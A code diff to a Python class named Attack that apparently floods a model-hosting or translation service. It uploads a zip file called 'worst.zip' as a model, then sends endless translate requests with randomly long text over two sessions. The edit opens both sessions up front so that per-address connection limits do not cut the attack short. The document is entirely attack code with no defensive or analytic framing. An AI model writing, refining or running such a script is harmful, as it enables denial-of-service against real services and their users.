@@ -201,11 +201,11 @@ class Attack:
         cookie, data = self._cookie(), self.zip
         while self._going():
             with suppress(*OFTEN), ExitStack() as open_:
-                page = open_.enter_context(self._page(cookie))
+                # Both now: the sockets soon use up all pages that an address may open.
+                page, other = (open_.enter_context(self._page(cookie)) for _ in range(2))
                 page.look("models")
                 self._count(f"zips answered {self._put(page, cookie, len(data), data)}")
                 page.load("worst.zip")
-                other = open_.enter_context(self._page(cookie))
                 other.look("translate", urlencode({"model": "models/worst", "text": "a"}))
                 while self._going():
                     is_taken = other.translate("a" * random.choice((1, 10, 100, LONG)))
